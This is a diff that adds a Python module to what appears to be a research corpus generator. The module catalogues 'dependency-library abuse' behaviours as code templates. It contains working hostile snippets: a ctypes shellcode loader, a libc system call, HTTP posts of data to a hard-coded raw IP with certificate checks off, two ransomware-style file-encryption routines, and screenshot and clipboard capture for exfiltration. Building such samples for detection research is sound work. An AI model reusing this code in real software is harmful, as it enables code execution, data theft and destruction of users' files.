@@ -1,0 +1,153 @@
+"""Dependency-library abuse behaviours (paper Table XII category 2).
+
+Subcategories: System Library Abuse, Network Library Misuse, Crypto Library
+Exploitation, UI/Graphics Library Abuse.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- System Library Abuse ----------------------------------------------------------
+    Behavior(
+        key="ctypes_shellcode",
+        subcategory="System Library Abuse",
+        description="Use ctypes to allocate executable memory and run shellcode.",
+        variants=[
+            (
+                ["import ctypes"],
+                """
+                def {func}_loader(shellcode):
+                    buf = ctypes.create_string_buffer(shellcode)
+                    addr = ctypes.windll.kernel32.VirtualAlloc(0, len(shellcode), 0x3000, 0x40)
+                    ctypes.windll.kernel32.RtlMoveMemory(addr, buf, len(shellcode))
+                    handle = ctypes.windll.kernel32.CreateThread(0, 0, addr, 0, 0, 0)
+                    ctypes.windll.kernel32.WaitForSingleObject(handle, -1)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import ctypes", "import ctypes.util"],
+                """
+                def {func}_dlopen():
+                    libc = ctypes.CDLL(ctypes.util.find_library("c"))
+                    libc.system(b"id > /tmp/.{var}")
+                """,
+                "{func}_dlopen()",
+                None,
+            ),
+        ],
+    ),
+    # -- Network Library Misuse ---------------------------------------------------------
+    Behavior(
+        key="requests_raw_ip",
+        subcategory="Network Library Misuse",
+        description="Use an HTTP client library against a hard-coded raw IP endpoint.",
+        variants=[
+            (
+                ["import requests"],
+                """
+                def {func}_report({var}):
+                    requests.post("http://{ip}:{port}/log", data=dict(v={var}),
+                                  verify=False, timeout=6)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import urllib3"],
+                """
+                def {func}_pool():
+                    urllib3.disable_warnings()
+                    http = urllib3.PoolManager(cert_reqs="CERT_NONE")
+                    return http.request("GET", "http://{ip}:{port}/cfg").data
+                """,
+                "{func}_pool()",
+                None,
+            ),
+        ],
+    ),
+    # -- Crypto Library Exploitation -------------------------------------------------------
+    Behavior(
+        key="crypto_ransom_encrypt",
+        subcategory="Crypto Library Exploitation",
+        description="Encrypt user files with AES (ransomware-style).",
+        variants=[
+            (
+                ["from Crypto.Cipher import AES", "import os"],
+                """
+                def {func}_lock(path, key):
+                    cipher = AES.new(key, AES.MODE_EAX)
+                    for dirpath, _dirs, files in os.walk(path):
+                        for name in files:
+                            if name.endswith((".docx", ".xlsx", ".jpg", ".pdf")):
+                                full = os.path.join(dirpath, name)
+                                with open(full, "rb") as handle:
+                                    data = handle.read()
+                                ciphertext, tag = cipher.encrypt_and_digest(data)
+                                with open(full + ".locked", "wb") as handle:
+                                    handle.write(cipher.nonce + tag + ciphertext)
+                                os.remove(full)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["from cryptography.fernet import Fernet", "import os"],
+                """
+                def {func}_fernet(root):
+                    key = Fernet.generate_key()
+                    box = Fernet(key)
+                    for dirpath, _dirs, files in os.walk(root):
+                        for name in files:
+                            full = os.path.join(dirpath, name)
+                            with open(full, "rb") as handle:
+                                blob = box.encrypt(handle.read())
+                            with open(full, "wb") as handle:
+                                handle.write(blob)
+                    return key
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- UI/Graphics Library Abuse ------------------------------------------------------------
+    Behavior(
+        key="screenshot_capture",
+        subcategory="UI/Graphics Library Abuse",
+        description="Capture screenshots / clipboard contents for exfiltration.",
+        variants=[
+            (
+                ["from PIL import ImageGrab", "import tempfile", "import os"],
+                """
+                def {func}_screen():
+                    image = ImageGrab.grab()
+                    target = os.path.join(tempfile.gettempdir(), "scr_{port}.png")
+                    image.save(target)
+                    return target
+                """,
+                "{func}_screen()",
+                None,
+            ),
+            (
+                ["import tkinter"],
+                """
+                def {func}_clipboard():
+                    root = tkinter.Tk()
+                    root.withdraw()
+                    try:
+                        return root.clipboard_get()
+                    except tkinter.TclError:
+                        return ""
+                    finally:
+                        root.destroy()
+                """,
+                "{func}_clipboard()",
+                None,
+            ),
+        ],
+    ),
+]
